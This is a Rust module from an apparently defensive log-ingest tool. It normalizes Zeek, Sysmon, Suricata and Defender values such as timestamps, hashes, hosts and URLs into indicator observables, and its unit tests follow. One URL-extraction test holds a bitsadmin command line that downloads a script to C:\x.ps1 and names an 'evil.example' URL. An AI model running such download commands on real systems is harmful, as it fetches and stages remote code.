//! Value handling shared by every adapter: what counts as empty, timestamps, Sysmon's
//! `Hashes` strings, host names and addresses, URLs; and [`Parts`], an event being built.
//!
//! Keeping these in one place is what makes the adapters agree: a `-` is empty in Zeek and in
//! Sysmon alike, and `::ffff:1.2.3.4` is `1.2.3.4` whichever log it came from.

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr};

use chrono::{DateTime, NaiveDateTime, Utc};

use crate::event::{Event, Field, Observable, Raw};

/// Whether a trimmed value means "nothing": empty, or Zeek's unset (`-`) and empty
/// (`(empty)`) markers, which Windows logs use too (`-` in Security events and Sysmon
/// hostnames).
fn is_blank(trimmed: &str) -> bool {
    matches!(trimmed, "" | "-" | "(empty)")
}

/// `str::trim` with a fast path for the usual value, which has nothing to trim: the Unicode
/// whitespace search showed up in ingest profiles.
pub(crate) fn trim(value: &str) -> &str {
    let bytes = value.as_bytes();
    match (bytes.first(), bytes.last()) {
        (Some(first), Some(last)) if first.is_ascii_graphic() && last.is_ascii_graphic() => value,
        _ => value.trim(),
    }
}

/// `part`, a sub-slice of `whole`, with `whole`'s lifetime when `whole` is borrowed.
pub(crate) fn subcow<'a>(whole: &Cow<'a, str>, part: &str) -> Cow<'a, str> {
    match whole {
        Cow::Borrowed(w) => {
            let start = (part.as_ptr() as usize).wrapping_sub(w.as_ptr() as usize);
            match w.get(start..start.wrapping_add(part.len())) {
                Some(s) if s.as_ptr() == part.as_ptr() => Cow::Borrowed(s),
                _ => Cow::Owned(part.to_owned()),
            }
        }
        Cow::Owned(_) => Cow::Owned(part.to_owned()),
    }
}

/// `value` trimmed, or `None` when it is blank. Takes the value to keep an owned one
/// without copying it (the common case: nothing to trim).
pub(crate) fn present(value: Cow<'_, str>) -> Option<Cow<'_, str>> {
    let trimmed = trim(&value);
    if is_blank(trimmed) {
        None
    } else if trimmed.len() == value.len() {
        Some(value)
    } else {
        Some(subcow(&value, trimmed))
    }
}

/// Parses the timestamps found in telemetry: RFC 3339 (`Z` or `±hh:mm`), ISO 8601 with a
/// `±hhmm` offset (Suricata), zone-less date-times taken as UTC (Sysmon `UtcTime`,
/// `2020-02-10 08:28:12.848`), and epoch seconds written as a number (Zeek TSV).
pub(crate) fn parse_timestamp(value: &str) -> Option<DateTime<Utc>> {
    let value = trim(value);
    if value.is_empty() || value.len() > 64 {
        return None;
    }
    if value.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        return value.parse().ok().and_then(epoch_seconds);
    }
    if let Ok(t) = DateTime::parse_from_rfc3339(value) {
        return Some(t.to_utc());
    }
    if let Ok(t) = DateTime::parse_from_str(value, "%Y-%m-%dT%H:%M:%S%.f%z") {
        return Some(t.to_utc());
    }
    ["%Y-%m-%d %H:%M:%S%.f", "%Y-%m-%dT%H:%M:%S%.f"]
        .into_iter()
        .find_map(|format| NaiveDateTime::parse_from_str(value, format).ok())
        .map(|t| t.and_utc())
}

/// Epoch seconds with a fraction (Zeek `ts`), to the microsecond: Zeek logs no finer, and
/// an f64 near 1.6e9 is only good to a fraction of a microsecond anyway.
pub(crate) fn epoch_seconds(seconds: f64) -> Option<DateTime<Utc>> {
    // Beyond ±10^11 s (year ~5000) is garbage; it also keeps the cast below in range.
    if !seconds.is_finite() || seconds.abs() > 1e11 {
        return None;
    }
    DateTime::from_timestamp_micros((seconds * 1e6).round() as i64)
}

/// Whose file a hash or a file name describes, in the native event's terms.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Subject {
    /// The file the event is about (created, loaded, downloaded, or the new process).
    File,
    /// The process that acted.
    InitiatingProcess,
}

impl Subject {
    pub(crate) fn sha1(self) -> Field {
        match self {
            Subject::File => Field::Sha1,
            Subject::InitiatingProcess => Field::InitiatingProcessSha1,
        }
    }

    pub(crate) fn sha256(self) -> Field {
        match self {
            Subject::File => Field::Sha256,
            Subject::InitiatingProcess => Field::InitiatingProcessSha256,
        }
    }

    pub(crate) fn md5(self) -> Field {
        match self {
            Subject::File => Field::Md5,
            Subject::InitiatingProcess => Field::InitiatingProcessMd5,
        }
    }

    pub(crate) fn file_name(self) -> Field {
        match self {
            Subject::File => Field::FileName,
            Subject::InitiatingProcess => Field::InitiatingProcessFileName,
        }
    }
}

/// An IPv4 address written as IPv4-mapped IPv6 (`::ffff:1.2.3.4`, Sysmon `QueryResults`),
/// as its plain IPv4 form; other text unchanged.
pub(crate) fn unmap_ipv4(value: &str) -> &str {
    let lower_prefix = value.get(..7).is_some_and(|p| p.eq_ignore_ascii_case("::ffff:"));
    match value.get(7..) {
        Some(v4) if lower_prefix && v4.parse::<Ipv4Addr>().is_ok() => v4,
        _ => value,
    }
}

/// A host as written in a Host header, an SNI or a `host:port` address, without the port
/// (and without the brackets of `[v6]:port`) or a DNS root dot.
pub(crate) fn strip_port(host: &str) -> &str {
    if let Some(inner) = host.strip_prefix('[') {
        return inner.split(']').next().unwrap_or(inner);
    }
    let host = match host.rsplit_once(':') {
        // One colon: `name:port`. More than one is a bare IPv6 address.
        Some((name, port))
            if !name.contains(':') && !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) =>
        {
            name
        }
        _ => host,
    };
    host.strip_suffix('.').unwrap_or(host)
}

/// Whether a value can be a DNS name (no spaces, slashes or other URL/text punctuation),
/// to tell names from free text in DNS answers.
fn looks_like_host(value: &str) -> bool {
    !value.is_empty()
        && value.len() <= 253
        && value.contains('.')
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_') || b >= 0x80)
}

/// Observables and the rest of an event, before its raw evidence is attached.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Parts<'a> {
    pub timestamp: DateTime<Utc>,
    pub device_id: Option<Cow<'a, str>>,
    pub device_name: Option<Cow<'a, str>>,
    pub action_type: Option<Cow<'a, str>>,
    pub observables: Observables<'a>,
}

impl<'a> Parts<'a> {
    pub(crate) fn new(timestamp: DateTime<Utc>) -> Self {
        Parts {
            timestamp,
            device_id: None,
            device_name: None,
            action_type: None,
            // Most events carry a handful; one allocation instead of growing through 1, 2, 4.
            observables: Observables(Vec::with_capacity(8)),
        }
    }

    pub(crate) fn into_event(self, raw: Raw<'a>) -> Event<'a> {
        Event {
            timestamp: self.timestamp,
            device_id: self.device_id,
            device_name: self.device_name,
            action_type: self.action_type,
            observables: self.observables.0,
            raw,
        }
    }

    /// For records decoded into a buffer that the event will own (EVTX).
    pub(crate) fn into_owned(self) -> Parts<'static> {
        fn own(v: Option<Cow<'_, str>>) -> Option<Cow<'static, str>> {
            v.map(|v| Cow::Owned(v.into_owned()))
        }
        Parts {
            timestamp: self.timestamp,
            device_id: own(self.device_id),
            device_name: own(self.device_name),
            action_type: own(self.action_type),
            observables: Observables(
                self.observables
                    .0
                    .into_iter()
                    .map(|o| Observable {
                        field: o.field,
                        value: Cow::Owned(o.value.into_owned()),
                    })
                    .collect(),
            ),
        }
    }
}

/// The observables of one event: trimmed, never blank, without repeats, and bounded.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Observables<'a>(pub Vec<Observable<'a>>);

/// Real events carry a few dozen indicator values at most (a DNS answer list); the bound
/// keeps one crafted record from handing the matcher thousands.
pub(crate) const MAX_OBSERVABLES: usize = 128;

// The helpers take `&Cow` rather than `&str` on purpose: a sub-slice of a borrowed value can
// keep borrowing the body (see `subcow`), which a `&str` would not tell them.
#[allow(clippy::ptr_arg)]
impl<'a> Observables<'a> {
    pub(crate) fn push(&mut self, field: Field, value: &Cow<'a, str>) {
        if self.0.len() < MAX_OBSERVABLES {
            self.push_value(field, value.clone());
        }
    }

    /// [`push`](Self::push) for a value the caller gives away.
    pub(crate) fn push_value(&mut self, field: Field, value: Cow<'a, str>) {
        if self.0.len() >= MAX_OBSERVABLES {
            return;
        }
        let Some(value) = present(value) else { return };
        if self.0.iter().any(|o| o.field == field && o.value == value) {
            return;
        }
        self.0.push(Observable { field, value });
    }

    pub(crate) fn push_opt(&mut self, field: Field, value: Option<&Cow<'a, str>>) {
        if let Some(value) = value {
            self.push(field, value);
        }
    }

    /// A Sysmon `Hashes` value, `SHA1=…,MD5=…,SHA256=…,IMPHASH=…` (any subset, any order).
    /// IMPHASH is an import-table hash, not a file hash, and is left out; so is anything that
    /// is not hex of the algorithm's length (`Hash: Unknown` in event 15).
    pub(crate) fn push_hashes(&mut self, hashes: &Cow<'a, str>, subject: Subject) {
        for item in hashes.split(',') {
            let Some((algorithm, hex)) = item.split_once('=') else { continue };
            let hex = trim(hex);
            let algorithm = trim(algorithm);
            let field = match hex.len() {
                40 if algorithm.eq_ignore_ascii_case("SHA1") => subject.sha1(),
                64 if algorithm.eq_ignore_ascii_case("SHA256") => subject.sha256(),
                32 if algorithm.eq_ignore_ascii_case("MD5") => subject.md5(),
                _ => continue,
            };
            if hex.bytes().all(|b| b.is_ascii_hexdigit()) {
                self.push(field, &subcow(hashes, hex));
            }
        }
    }

    /// A remote address; IPv4-mapped IPv6 is written as IPv4.
    pub(crate) fn push_ip(&mut self, ip: &Cow<'a, str>) {
        let trimmed = trim(ip);
        self.push(Field::RemoteIp, &subcow(ip, unmap_ipv4(trimmed)));
    }

    /// A remote host name (HTTP Host, TLS SNI, a resolved name): an address literal becomes
    /// `RemoteIP`, a name a bare-host `RemoteUrl`.
    pub(crate) fn push_host(&mut self, host: &Cow<'a, str>) {
        let bare = strip_port(trim(host));
        if bare.is_empty() || bare.contains(char::is_whitespace) {
            return;
        }
        if bare.parse::<IpAddr>().is_ok() {
            self.push_ip(&subcow(host, bare));
        } else {
            self.push(Field::RemoteUrl, &subcow(host, bare));
        }
    }

    /// A DNS name that was queried.
    pub(crate) fn push_query(&mut self, name: &Cow<'a, str>) {
        let trimmed = trim(name);
        self.push(Field::DnsQuery, &subcow(name, trimmed.strip_suffix('.').unwrap_or(trimmed)));
    }

    /// One DNS answer: an address (`RemoteIP`), a name such as a CNAME target (`RemoteUrl`),
    /// or other record data (TXT…), which is skipped. Sysmon writes CNAMEs as `type:  5 name`.
    pub(crate) fn push_answer(&mut self, answer: &Cow<'a, str>) {
        let mut value = trim(answer);
        if let Some(record) = value.strip_prefix("type:") {
            // `type:  5 github.map.fastly.net`: the last word is the name.
            value = record.split_whitespace().last().unwrap_or("");
        }
        let value = unmap_ipv4(value);
        if value.parse::<IpAddr>().is_ok() {
            self.push(Field::RemoteIp, &subcow(answer, value));
        } else if looks_like_host(strip_port(value)) {
            self.push(Field::RemoteUrl, &subcow(answer, strip_port(value)));
        }
    }

    /// The `http(s)://` and `ftp://` URLs in free text such as a command line (the
    /// bitsadmin download in the OTRF data).
    pub(crate) fn push_urls_in(&mut self, text: &Cow<'a, str>) {
        let bytes = text.as_bytes();
        for at in memchr::memmem::find_iter(bytes, b"://") {
            let scheme_start = bytes[..at]
                .iter()
                .rposition(|b| !b.is_ascii_alphabetic())
                .map_or(0, |p| p + 1);
            let scheme = &text[scheme_start..at];
            if !["http", "https", "ftp"].iter().any(|s| s.eq_ignore_ascii_case(scheme)) {
                continue;
            }
            let end = bytes[at..]
                .iter()
                .position(|&b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'<' | b'>' | b'`' | b'^' | b'|'))
                .map_or(bytes.len(), |p| at + p);
            let url = text[scheme_start..end].trim_end_matches(['.', ',', ';', ')']);
            if url.len() > scheme.len() + 3 {
                self.push(Field::RemoteUrl, &subcow(text, url));
            }
        }
    }

    /// A file name with an optional folder (native `FileName` + `FolderPath`): one
    /// observable with the full path, which also serves base-name matching.
    pub(crate) fn push_path(&mut self, field: Field, name: Option<Cow<'a, str>>, folder: Option<Cow<'a, str>>) {
        let name = name.and_then(present);
        let folder = folder.and_then(present);
        match (name, folder) {
            (None, None) => {}
            (Some(name), None) => self.push_value(field, name),
            (None, Some(folder)) => self.push_value(field, folder),
            (Some(name), Some(folder)) => {
                // Defender's FolderPath usually already ends with the file name.
                let ends_with_name = folder
                    .len()
                    .checked_sub(name.len())
                    .and_then(|cut| folder.get(cut..))
                    .is_some_and(|tail| tail.eq_ignore_ascii_case(&name));
                if ends_with_name {
                    self.push_value(field, folder);
                } else {
                    let separator = if folder.contains('\\') { '\\' } else { '/' };
                    let folder_str = folder.trim_end_matches(['\\', '/']);
                    self.push_value(field, Cow::Owned(format!("{folder_str}{separator}{name}")));
                }
            }
        }
    }
}

/// The request URL of an HTTP transaction from its Host header, server port and request
/// target: `http://host[:port]/path`, or the target itself when it is already absolute (a
/// proxy request, or Suricata's `rtsp://…`). Origin-form targets only: `*` and CONNECT
/// authorities make no URL.
pub(crate) fn http_url<'a>(host: &str, port: Option<u64>, target: &Cow<'a, str>) -> Option<Cow<'a, str>> {
    let trimmed = trim(target);
    if trimmed.contains("://") {
        return Some(subcow(target, trimmed));
    }
    let host = trim(host);
    if !trimmed.starts_with('/') || host.is_empty() || host.contains(char::is_whitespace) {
        return None;
    }
    let has_port = host.starts_with('[') && host.contains("]:") || host.matches(':').count() == 1;
    let host = if !host.starts_with('[') && host.matches(':').count() > 1 {
        Cow::Owned(format!("[{host}]"))
    } else {
        Cow::Borrowed(host)
    };
    Some(Cow::Owned(match port {
        Some(port) if port != 80 && !has_port => format!("http://{host}:{port}{trimmed}"),
        _ => format!("http://{host}{trimmed}"),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(o: &Observables) -> Vec<(Field, String)> {
        o.0.iter().map(|o| (o.field, o.value.to_string())).collect()
    }

    #[test]
    fn blank_markers() {
        for blank in ["", "  ", "-", "(empty)", " - ", "\u{a0}(empty)\t"] {
            assert_eq!(present(Cow::Borrowed(blank)), None, "{blank:?}");
        }
        assert_eq!(present(Cow::Borrowed(" a b\r")).as_deref(), Some("a b"));
        assert_eq!(present(Cow::Borrowed("--")).as_deref(), Some("--"));
    }

    #[test]
    fn subcow_borrows_sub_slices_and_copies_foreign_ones() {
        let whole: Cow<str> = Cow::Borrowed("abc def");
        assert!(matches!(subcow(&whole, &whole[4..]), Cow::Borrowed("def")));
        assert!(matches!(subcow(&whole, "def"), Cow::Owned(ref s) if s == "def"));
    }

    #[test]
    fn timestamps() {
        let t = |s| parse_timestamp(s).map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Micros, true));
        assert_eq!(t("2026-11-22T10:00:00Z").as_deref(), Some("2026-11-22T10:00:00.000000Z"));
        assert_eq!(t("2021-06-06T16:26:27.431769+0200").as_deref(), Some("2021-06-06T14:26:27.431769Z"));
        assert_eq!(t("2021-06-06T16:26:27.431769+02:00").as_deref(), Some("2021-06-06T14:26:27.431769Z"));
        assert_eq!(t("2020-02-10 08:28:12.848").as_deref(), Some("2020-02-10T08:28:12.848000Z"));
        assert_eq!(t("2020-02-10T08:28:12").as_deref(), Some("2020-02-10T08:28:12.000000Z"));
        assert_eq!(t("1588205198.89971").as_deref(), Some("2020-04-30T00:06:38.899710Z"));
        assert_eq!(t("13.184015").as_deref(), Some("1970-01-01T00:00:13.184015Z"));
        for bad in ["", "yesterday", "1.2.3", "2020-13-45T00:00:00Z", "99999999999999999999"] {
            assert_eq!(t(bad), None, "{bad}");
        }
        assert_eq!(epoch_seconds(f64::NAN), None);
        assert_eq!(epoch_seconds(1e300), None);
    }

    #[test]
    fn hashes_strings() {
        let mut o = Observables::default();
        let h = Cow::Borrowed(
            "SHA1=7C1B25518DEE1E30B5A6EAA1EA8E4A3780C24D0C,MD5=EAEA9CCB40C82AF8F3867CD0F4DD5E9D,\
             SHA256=CF3A7D4285D65BF8688215407BCE1B51D7C6B22497F09021F0FCE31CBEB78986,IMPHASH=B262E8D0B262E8D0B262E8D0B262E8D0",
        );
        o.push_hashes(&h, Subject::File);
        o.push_hashes(&Cow::Borrowed("Unknown"), Subject::File);
        o.push_hashes(&Cow::Borrowed("MD5=XYZ,SHA1=,=,,sha1=68b26c16080d71013123c6dee7b1aabc3d2857d0"), Subject::InitiatingProcess);
        assert_eq!(
            values(&o),
            vec![
                (Field::Sha1, "7C1B25518DEE1E30B5A6EAA1EA8E4A3780C24D0C".into()),
                (Field::Md5, "EAEA9CCB40C82AF8F3867CD0F4DD5E9D".into()),
                (Field::Sha256, "CF3A7D4285D65BF8688215407BCE1B51D7C6B22497F09021F0FCE31CBEB78986".into()),
                (Field::InitiatingProcessSha1, "68b26c16080d71013123c6dee7b1aabc3d2857d0".into()),
            ]
        );
        assert!(o.0.iter().all(|o| matches!(o.value, Cow::Borrowed(_))));
    }

    #[test]
    fn hosts_answers_and_addresses() {
        let mut o = Observables::default();
        for host in ["Example.com:8080", "1.2.3.4:80", "[2001:db8::1]:443", "fe80::1", "www.x.org.", "-", "a b"] {
            o.push_host(&Cow::Borrowed(host));
        }
        for answer in ["type:  5 github.map.fastly.net", "::ffff:151.101.208.133", "some txt record", "10 mx.example.net"] {
            o.push_answer(&Cow::Borrowed(answer));
        }
        o.push_ip(&Cow::Borrowed(" ::ffff:10.0.0.1 "));
        assert_eq!(
            values(&o),
            vec![
                (Field::RemoteUrl, "Example.com".into()),
                (Field::RemoteIp, "1.2.3.4".into()),
                (Field::RemoteIp, "2001:db8::1".into()),
                (Field::RemoteIp, "fe80::1".into()),
                (Field::RemoteUrl, "www.x.org".into()),
                (Field::RemoteUrl, "github.map.fastly.net".into()),
                (Field::RemoteIp, "151.101.208.133".into()),
                (Field::RemoteIp, "10.0.0.1".into()),
            ]
        );
    }

    #[test]
    fn urls_in_command_lines() {
        let mut o = Observables::default();
        o.push_urls_in(&Cow::Borrowed(
            r#"bitsadmin.exe /transfer /Download https://raw.githubusercontent.com/a/T1197.md C:\x.ps1 "HTTP://evil.example/p?q=1". file://c/x ://x http://"#,
        ));
        assert_eq!(
            values(&o),
            vec![
                (Field::RemoteUrl, "https://raw.githubusercontent.com/a/T1197.md".into()),
                (Field::RemoteUrl, "HTTP://evil.example/p?q=1".into()),
            ]
        );
    }

    #[test]
    fn paths_and_urls() {
        let mut o = Observables::default();
        let b = |s| Some(Cow::Borrowed(s));
        o.push_path(Field::FileName, b("cmd.exe"), b(r"C:\Windows\System32\cmd.exe"));
        o.push_path(Field::FileName, b("a.sys"), b(r"C:\drivers\"));
        o.push_path(Field::InitiatingProcessFileName, b("sh"), None);
        assert_eq!(
            values(&o),
            vec![
                (Field::FileName, r"C:\Windows\System32\cmd.exe".into()),
                (Field::FileName, r"C:\drivers\a.sys".into()),
                (Field::InitiatingProcessFileName, "sh".into()),
            ]
        );
        let u = |h, p, t| http_url(h, p, &Cow::Borrowed(t)).map(|c| c.into_owned());
        assert_eq!(u("gatyfus.com", Some(80), "/login.php").as_deref(), Some("http://gatyfus.com/login.php"));
        assert_eq!(u("1.2.3.4", Some(8080), "/x").as_deref(), Some("http://1.2.3.4:8080/x"));
        assert_eq!(u("h:81", Some(81), "/x").as_deref(), Some("http://h:81/x"));
        assert_eq!(u("fd00::1", Some(80), "/x").as_deref(), Some("http://[fd00::1]/x"));
        assert_eq!(u("h", None, "rtsp://h:554/11").as_deref(), Some("rtsp://h:554/11"));
        assert_eq!(u("h", None, "*"), None);
        assert_eq!(u("", None, "/x"), None);
    }

    #[test]
    fn observables_are_bounded_and_unique() {
        let mut o = Observables::default();
        for i in 0..1000 {
            o.push(Field::RemoteIp, &Cow::Owned(format!("10.0.{}.{}", i / 256, i % 256)));
            o.push(Field::RemoteIp, &Cow::Borrowed("10.0.0.0"));
        }
        assert_eq!(o.0.len(), MAX_OBSERVABLES);
    }
}
